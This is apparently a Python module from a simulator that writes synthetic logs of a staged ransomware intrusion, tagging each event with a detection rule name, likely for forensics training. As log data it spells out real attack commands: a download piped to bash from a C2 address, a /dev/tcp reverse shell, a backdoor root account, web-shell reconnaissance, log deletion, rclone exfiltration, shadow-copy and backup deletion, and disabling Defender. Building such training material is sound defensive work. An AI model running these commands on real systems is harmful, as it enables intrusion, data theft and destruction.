"""Day two, before dawn: Linux, the drawings, the preparation for ransomware (S23 to S28)."""

from .dice import MINUTE, SECOND, jst
from .machine import SYSTEM32
from .ordinary_unix import key_print
from .world import ADDRESSES, C2_IP, EXFIL_HOST, EXFIL_IP

COPY_AGENT = "rclone/v1.67.0"


def run(story, machines, logs, beacon):
    fs, ap = machines["FS01"], machines["AP01"]
    storage_server(story, logs)
    web_server(story, logs)
    collect(story, fs, logs, beacon)
    prepare(story, fs, ap, beacon)


def storage_server(story, logs):
    log, audit, dice, fs_ip = logs["nas01.syslog"], logs["nas01.audit"], story.dice, ADDRESSES["FS01"]
    with story.step("S23"):
        t = jst("15 00:38:10")
        for n, name in enumerate(["root", "ito", "admin", "ito", "root", "svc_backup"]):
            log.say(
                t + n * 9 * SECOND,
                "sshd",
                20114 + n,
                f"Failed password for {'invalid user ' if name == 'admin' else ''}{name} from {fs_ip} port {50400 + n} ssh2",
            )
        log.say(
            t + 80 * SECOND,
            "sshd",
            20131,
            f"Accepted password for svc_backup from {fs_ip} port 50433 ssh2",
            ("ssh_password_for_service_account",),
        )
        log.say(
            t + 80 * SECOND + 40_000,
            "sshd",
            20131,
            "pam_unix(sshd:session): session opened for user svc_backup(uid=1010) by (uid=0)",
        )
    with story.step("S24"):
        t = jst("15 00:41:00")
        log.say(
            t,
            "sudo",
            0,
            "svc_backup : TTY=pts/1 ; PWD=/home/svc_backup ; USER=root ; COMMAND=/bin/bash",
            ("sudo_to_shell",),
        )
        log.say(
            t + 2000, "sudo", 0, "pam_unix(sudo:session): session opened for user root(uid=0) by svc_backup(uid=1010)"
        )
        say = lambda at, argv, exe, rules=(): audit.execute(
            t + at * SECOND, dice, argv, exe, 0, 1010, "pts1", "/root", rules
        )
        say(1, ["/bin/bash"], "/usr/bin/bash")
        say(40, ["ln", "-sf", "/dev/null", "/root/.bash_history"], "/usr/bin/ln", ("shell_history_disabled",))
        say(75, ["bash", "-c", f"curl -fsSL http://{C2_IP}/i.sh | bash"], "/usr/bin/bash", ("download_piped_to_shell",))
        say(76, ["curl", "-fsSL", f"http://{C2_IP}/i.sh"], "/usr/bin/curl")
        audit.write(
            t + 80 * SECOND,
            dice,
            "/etc/cron.d/php-session",
            "/usr/bin/bash",
            0,
            1010,
            True,
            "cron",
            ("cron_file_written",),
        )
        audit.write(
            t + 84 * SECOND,
            dice,
            "/root/.ssh/authorized_keys",
            "/usr/bin/tee",
            0,
            1010,
            False,
            "keys",
            ("authorized_keys_written",),
        )
        say(120, ["useradd", "-o", "-u", "0", "-g", "0", "-M", "-s", "/bin/bash", "sysstat"], "/usr/sbin/useradd")
        log.say(
            t + 121 * SECOND,
            "useradd",
            20390,
            "new user: name=sysstat, UID=0, GID=0, home=/home/sysstat, shell=/bin/bash, from=/dev/pts/1",
            ("second_root_account",),
        )
        for n in range(1, 8):
            log.say(
                t + n * 20 * MINUTE,
                "CRON",
                21000 + 37 * n,
                f"(root) CMD (curl -fsSL http://{C2_IP}/i.sh | bash >/dev/null 2>&1)",
                ("cron_runs_download",),
            )


def web_server(story, logs):
    log, audit, web, dice = logs["web01.syslog"], logs["web01.audit"], logs["web01.access"], story.dice
    with story.step("S25"):
        t, nas = jst("15 00:58:20"), ADDRESSES["NAS01"]
        log.say(t, "sshd", 8841, f"Accepted publickey for deploy from {nas} port 41022 ssh2: RSA {key_print(dice)}")
        log.say(t + 20_000, "sshd", 8841, "pam_unix(sshd:session): session opened for user deploy(uid=1005) by (uid=0)")
        audit.execute(
            t + 20 * SECOND,
            dice,
            ["cp", "/tmp/.c", "/var/www/html/uploads/cache.php"],
            "/usr/bin/cp",
            1005,
            1005,
            "pts2",
            "/home/deploy",
        )
        t = jst("15 01:04:00")
        for n, command in enumerate(("id", "uname -a", "cat /etc/passwd", "ss -tlnp")):
            web.request(
                t + n * 31 * SECOND,
                C2_IP,
                "POST",
                "/uploads/cache.php",
                "",
                200,
                dice.between(120, 2400),
                "Mozilla/5.0 (X11; Linux x86_64)",
                ("web_shell_post",),
            )
            audit.execute(
                t + n * 31 * SECOND + 40_000,
                dice,
                ["sh", "-c", command],
                "/usr/bin/dash",
                33,
                None,
                "(none)",
                "/var/www/html/uploads",
                syscall_rules=("web_server_starts_shell",),
            )
        t = jst("15 01:09:30")
        audit.execute(
            t,
            dice,
            ["bash", "-c", f"bash -i >& /dev/tcp/{C2_IP}/443 0>&1"],
            "/usr/bin/bash",
            33,
            None,
            "(none)",
            "/var/www/html/uploads",
            rules=("reverse_shell_by_device",),
            syscall_rules=("web_server_starts_shell",),
        )
        audit.execute(
            t + 6 * MINUTE,
            dice,
            ["rm", "-f", "/var/log/nginx/error.log", "/var/log/auth.log.1"],
            "/usr/bin/rm",
            0,
            1005,
            "pts2",
            "/root",
            rules=("log_files_removed",),
        )


def collect(story, fs, logs, beacon):
    with story.step("S26"):
        t = jst("15 01:31:00")
        shell = fs.start(t, beacon, "cmd.exe", "C:\\Windows\\system32\\cmd.exe")
        for n, (folder, parts) in enumerate((("設計図面", 7), ("経理", 2))):
            at = t + n * 6 * MINUTE
            fs.start(
                at + SECOND,
                shell,
                "C:\\PerfLogs\\7z.exe",
                f"7z.exe a -t7z -mx1 -mhe=on -pKq7#tV2mZ9 -v500m C:\\PerfLogs\\{n + 1}.7z D:\\共有\\{folder}",
                company="Igor Pavlov",
                original="7z.exe",
                rules=("archive_with_password",),
            )
            for part in range(1, parts + 1):
                path = f"C:\\PerfLogs\\{n + 1}.7z.{part:03}"
                logs["operations"].put(
                    at + part * 35 * SECOND,
                    "FS01",
                    "SYSTEM",
                    "ファイル作成",
                    path,
                    524288000,
                    "7z.exe",
                    ("very_large_archive_recorded",),
                )
    with story.step("S27"):
        t = jst("15 01:52:00")
        fs.start(
            t,
            shell,
            "C:\\PerfLogs\\svhost.exe",
            "svhost.exe  copy C:\\PerfLogs\\ box:minato --config C:\\PerfLogs\\c.conf --transfers 8 --no-check-certificate",
            company="https://rclone.org",
            original="rclone.exe",
            rules=("cloud_copy_tool",),
        )
        for n in range(9):
            logs["proxy"].request(
                t + (n * 190 + 20) * SECOND,
                fs.ip,
                "-",
                "PUT",
                f"https://{EXFIL_HOST}/v2/o/{story.dice.hex(16)}",
                COPY_AGENT,
                524_288_000 + story.dice.below(9000),
                412,
                ("very_large_upload",),
                kind="application/json",
            )
        fs.lookup(t + SECOND, beacon, EXFIL_HOST, f"::ffff:{EXFIL_IP};", ("system_binary_looks_up_name",))


def prepare(story, fs, ap, beacon):
    with story.step("S28"):
        for machine, begin in ((fs, "15 04:05:10"), (ap, "15 04:12:40")):
            t = jst(begin)
            parent = beacon if machine is fs else machine.services
            shell = machine.start(t, parent, "cmd.exe", "C:\\Windows\\system32\\cmd.exe /c C:\\PerfLogs\\p.bat")
            orders = [
                ("net.exe", 'net  stop "SQL Server (HANBAI)" /y', ("backup_services_stopped",)),
                ("net.exe", "net  stop wbengine /y", ("backup_services_stopped",)),
                ("taskkill.exe", "taskkill  /f /im sqlservr.exe", ("backup_services_stopped",)),
                ("vssadmin.exe", "vssadmin  delete shadows /all /quiet", ("shadow_copies_deleted",)),
                ("wbem\\WMIC.exe", "wmic  shadowcopy delete /nointeractive", ("shadow_copies_deleted",)),
                ("wbadmin.exe", "wbadmin  delete catalog -quiet", ("backup_catalogue_deleted",)),
                ("bcdedit.exe", "bcdedit  /set {default} recoveryenabled no", ("recovery_disabled",)),
                ("bcdedit.exe", "bcdedit  /set {default} bootstatuspolicy ignoreallfailures", ("recovery_disabled",)),
            ]
            for n, (image, command, rules) in enumerate(orders):
                machine.start(t + (n + 1) * 4 * SECOND, shell, SYSTEM32 + image, command, rules=rules)
            machine.service_state(t + 20 * SECOND, "Block Level Backup Engine Service", "stopped")
            shell2 = machine.start(
                t + MINUTE,
                shell,
                "reg.exe",
                'reg  add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f',
                rules=("defender_switched_off_command",),
            )
            machine.registry(
                t + MINUTE + 30_000,
                shell2,
                "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
                "DWORD (0x00000001)",
                ("defender_switched_off",),
            )
